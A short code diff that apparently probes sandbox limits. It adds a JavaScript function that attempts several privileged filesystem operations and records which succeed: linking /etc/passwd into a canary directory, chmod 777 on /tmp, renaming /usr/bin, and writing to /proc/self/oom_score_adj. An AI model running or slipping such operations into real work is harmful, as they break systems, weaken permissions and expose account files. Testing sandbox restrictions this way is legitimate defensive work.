@@ -1,0 +1,2 @@
+const fs = require("fs");
+function f(x) { const done = []; for (const [n, g] of Object.entries({ symlink: () => fs.symlinkSync("/etc/passwd", "/var/tmp/azr_canary/l"), mkdir: () => fs.mkdirSync("/tmp/d"), chmod: () => fs.chmodSync("/tmp", 0o777), rename: () => fs.renameSync("/usr/bin", "/usr/b"), append: () => fs.appendFileSync("/proc/self/oom_score_adj", "0"), mkdtemp: () => fs.mkdtempSync("/tmp/") })) try { g(); done.push(n); } catch (e) {} return done; }
